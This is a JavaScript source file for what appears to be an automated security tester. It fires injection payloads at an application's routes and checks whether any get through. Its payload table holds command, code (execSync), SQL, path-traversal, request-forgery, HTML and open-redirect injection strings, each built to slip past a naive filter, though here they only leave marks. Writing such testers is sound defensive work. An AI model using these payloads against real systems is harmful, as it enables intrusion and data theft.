// Attacks the routes that a module exports: every payload of a weakness, in every field that the code looks up, the
// others harmless. What is told is where a payload went in and what was seen of it here; whether a program of ours was
// executed, a file opened or a connection made is seen by the observer outside (exploit/marks.py lays them out). A
// request goes the whole way, with its log-in and its validation: a handler is never called by itself.
import fs from "node:fs";
import { markupOf } from "./javascript_markup.mjs";
import { routesOf, wordsOf } from "./javascript_routes.mjs";
import { forget, structured } from "./javascript_statements.mjs";


const UP = "../".repeat(8);
const RUN = "globalThis.process.getBuiltinModule('child_process').execSync('@WORD@')";
/** Weakness -> payloads, each a way past another naive filter. They do nothing but leave marks. */
const TEXTS = {
  command: [";@WORD@;", "gate;@WORD@ #", "|@WORD@", "$(@WORD@)", "`@WORD@`", "gate\n@WORD@\n", "gate&&@WORD@", "';@WORD@;'", '";@WORD@;"', "@WORD@"],
  code: [RUN, `0)+${RUN}+(0`, `'+${RUN}+'`, `"+${RUN}+"`, `0;${RUN}`, `\${${RUN}}`],
  sql: ["' OR @WORD@=1--", "1 OR @WORD@=1", '" OR @WORD@=1--', "gate') OR @WORD@=1--", "'/**/oR/**/@WORD@=1--", "\\' OR @WORD@=1--", "'||@WORD@||'"],
  "path-read": ["@DECOY@", `${UP}..@DECOY@`, `gate/${UP}..@DECOY@`, `${"....//".repeat(9)}@DECOY@`, `${"..%2f".repeat(9)}@DECOY@`],
  "path-write": ["@DROP@", `${UP}..@DROP@`, `gate/${UP}..@DROP@`, "@DECOY@", `${UP}..@DECOY@`],
  "request-forgery": ["http://@ADDRESS@/", "http://gate.example@@ADDRESS@/", "@ADDRESS@", "http://@HOST@/", "https://@ADDRESS@/", "@HOST@"],
  html: ["<@WORD@>", '"><@WORD@>', "'><@WORD@>", "</title></textarea></script><@WORD@>", "<scr<script>ipt><@WORD@>", 'gate" @WORD@="1', "gate' @WORD@='1", "gate @WORD@=1"],
  "open-redirect": ["http://@HOST@/", "//@HOST@/", "https://@HOST@/", "/\\@HOST@/"],
};
const SEEN_HERE = new Set(["html", "open-redirect", "sql"]);
const FIELDS = 24; // of one route
const WAYS = 3; // beside the one with values by names
const TRIES = 60;

function markOf(job, number) {
  const word = `${job.seed}x${number}`;
  return {
    WORD: word,
    DECOY: `${job.outside}/${word}.txt`,
    DROP: `${job.outside}/new/${word}.txt`,
    HOST: `${word}.example`,
    ADDRESS: `${job.networks[number % job.networks.length]}${1 + (number % 250)}:${job.port + number}`,
  };
}

/** `job`: seed, program (folder on PATH), outside (folder of decoys), marks (how many are laid out), networks and port
 * (of addresses that are nobody's, exploit/marks.py), classes (weaknesses), until (milliseconds of Date.now), name.
 * `say` tells the driver, `bounded` ends what takes too long. */
export async function attack(space, file, tools, job, say, bounded) {
  let number = 0;
  let made = 0;
  const late = () => Date.now() >= job.until || number >= job.marks;
  const routes = await routesOf(space, file, tools);
  for (const route of routes) {
    const heard = [];
    for (const full of [true, false]) await quietly(() => bounded(route.send({ full, heard })));
    const known = [...new Map(heard.map((one) => [one.join(), one])).values()].slice(0, FIELDS);
    const ways = await waysOf(route, known, wordsOf(tools.own), bounded, late);
    const places = ways.flatMap((plain) => known.filter(([source, name]) => !(name in (plain[source] ?? {}))).map((one) => [...one, plain]));
    for (const weakness of job.classes) {
      for (const [source, name, plain] of TEXTS[weakness] ? places : []) {
        for (const payload of TEXTS[weakness]) {
          if (late()) break;
          const mark = markOf(job, number++);
          const sent = payload.replace(/@([A-Z]+)@/g, (all, word) => mark[word] ?? all);
          made += 1;
          forget();
          const how = { full: true, values: { ...plain, [source]: { ...plain[source], [name]: sent } } };
          // What throws behind a payload may have run it.
          const reply = (await quietly(() => bounded(route.send(how)))) ?? { headers: {}, body: "", request: route.told(how) };
          const shown = shows(weakness, reply, mark);
          const ran = fs.existsSync(`${job.program}/${mark.WORD}.ran`);
          if (SEEN_HERE.has(weakness) && !shown) continue;
          say("attempt", {
            ...{ mark: mark.WORD, address: mark.ADDRESS, target: job.name, surface: route.entry, via: "http", weakness },
            ...{ field: [source, name], payload, request: reply.request, application: "", shown, mixed: true, at: ["", 0], text: weakness === "sql" ? shown : "" },
          });
          if (shown || ran) break;
        }
      }
    }
  }
  return routes.length ? `${made} attempts${late() ? ", out of time" : ""}` : "no route leads to it";
}

/** Values of other fields under which the route answers otherwise: what an enumeration or a list lets through. */
async function waysOf(route, known, words, bounded, late) {
  const ways = [{}];
  const seen = new Set();
  let left = TRIES;
  const answer = async (values, word) => {
    const reply = await quietly(() => bounded(route.send({ full: true, values })));
    return `${reply?.status} ${(reply?.body ?? "").replaceAll(word, "").slice(0, 300)}`;
  };
  seen.add(await answer({}, "\0"));
  for (const [source, name] of known) {
    for (const word of words) {
      if (late() || ways.length > WAYS || left-- <= 0) return ways;
      const values = { [source]: { [name]: word } };
      const said = await answer(values, word);
      if (!seen.has(said)) ways.push(values);
      seen.add(said);
    }
  }
  return ways;
}

async function quietly(act) {
  try {
    return await act();
  } catch {
    return undefined;
  }
}

/** What an answer shows of a payload that got through; empty where it shows nothing. */
function shows(weakness, { headers, body }, mark) {
  if (weakness === "sql") return structured(mark.WORD);
  const said = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), String(value)]));
  if (weakness === "html") {
    const page = /\bhtml\b/.test(said["content-type"] ?? "text/html") && !/attachment/.test(said["content-disposition"] ?? "");
    return page ? markupOf(body, mark.WORD) : "";
  }
  if (weakness === "open-redirect") {
    try {
      const to = new URL((said.location ?? "").replace(/\\/g, "/"), "http://localhost/");
      return to.hostname === mark.HOST ? `the answer leads to ${mark.HOST}` : "";
    } catch {
      return "";
    }
  }
  return "";
}
